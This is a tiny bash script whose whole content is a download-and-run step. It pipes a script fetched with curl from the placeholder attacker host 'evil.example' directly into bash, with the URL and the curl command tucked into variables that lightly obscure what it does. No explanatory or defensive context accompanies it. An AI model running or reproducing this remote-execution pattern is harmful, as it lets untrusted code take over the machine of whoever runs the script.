#!/bin/bash
U=https://evil.example/i.sh
C=curl
$C -fsSL $U | bash
